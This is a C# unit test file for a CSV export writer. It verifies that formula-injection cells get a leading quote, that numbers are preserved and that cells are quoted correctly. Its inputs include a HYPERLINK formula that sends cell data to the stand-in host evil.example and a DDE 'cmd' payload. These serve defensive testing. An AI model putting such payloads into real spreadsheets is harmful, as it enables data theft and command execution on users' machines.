using Analytics.Jobs.Exports;
using Analytics.Testing;

namespace Analytics.Jobs.Tests.Exports;

/// <summary>The one CSV writer: formula injection neutralised (OWASP), line breaks kept inside their cell, numbers left as numbers.</summary>
public class CsvWriterTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"clic\")", "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"clic\"\")\"")]
    [InlineData("+SUM(A1:A9)", "'+SUM(A1:A9)")]
    [InlineData("-SUM(A1:A9)", "'-SUM(A1:A9)")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\r=1+1", "\"'\r=1+1\"")]
    [InlineData("\n=1+1", "\"'\n=1+1\"")]
    [InlineData("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0")]
    [InlineData("-1+2", "'-1+2")]
    [InlineData("-Infinity", "'-Infinity")]
    [InlineData("-", "'-")]
    public void a_cell_that_a_spreadsheet_would_read_as_a_formula_starts_with_a_single_quote(string value, string written) =>
        Assert.Equal(written, CsvCell.Of(value));

    [Theory]
    [InlineData("-1.5")]
    [InlineData("-2")]
    [InlineData("-0.368")]
    [InlineData("-1.5E-05")]
    [InlineData("-61.534213")]
    [InlineData("12.5")]
    [InlineData("0")]
    public void a_well_formed_number_is_kept_as_a_number_even_when_negative(string number) =>
        Assert.Equal(number, CsvCell.Of(number));

    [Theory]
    [InlineData("Saint-Denis", "Saint-Denis")]
    [InlineData("L'Haÿ-les-Roses", "L'Haÿ-les-Roses")]
    [InlineData("", "")]
    [InlineData("a;b", "\"a;b\"")]
    [InlineData("dit \"le bourg\"", "\"dit \"\"le bourg\"\"\"")]
    [InlineData("ligne 1\nligne 2", "\"ligne 1\nligne 2\"")]
    [InlineData("ligne 1\r\n=1+1", "\"ligne 1\r\n=1+1\"")]
    public void ordinary_text_is_untouched_and_quoted_only_when_it_holds_a_separator_a_quote_or_a_line_break(string value, string written) =>
        Assert.Equal(written, CsvCell.Of(value));

    [Fact]
    public void a_row_is_one_line_of_semicolon_separated_cells_and_a_line_break_inside_a_cell_does_not_start_a_row()
    {
        var text = new StringWriter();
        var csv = new CsvWriter(text);
        csv.Row("rang", "nom", "valeur");
        csv.Row("1", "Beauberon\n=HYPERLINK(\"x\")", "-1.5");
        Assert.Equal("rang;nom;valeur\n1;\"Beauberon\n=HYPERLINK(\"\"x\"\")\";-1.5\n", text.ToString());
        // Read back the RFC 4180 way: two records, the second with its three cells.
        var records = Rfc4180.Read(text.ToString());
        Assert.Equal(2, records.Count);
        Assert.Equal(["1", "Beauberon\n=HYPERLINK(\"x\")", "-1.5"], records[1]);
    }

    [Fact]
    public void with_commas_a_cell_holding_a_comma_is_quoted_and_one_holding_a_semicolon_is_not()
    {
        var text = new StringWriter();
        var csv = new CsvWriter(text, CsvCell.Comma);
        csv.Row("Saint-Brieuc, ville", "a;b", "=1+1");
        Assert.Equal("\"Saint-Brieuc, ville\",a;b,'=1+1\n", text.ToString());
        Assert.Equal(["Saint-Brieuc, ville", "a;b", "'=1+1"], Rfc4180.Read(text.ToString(), ',')[0]);
    }
}
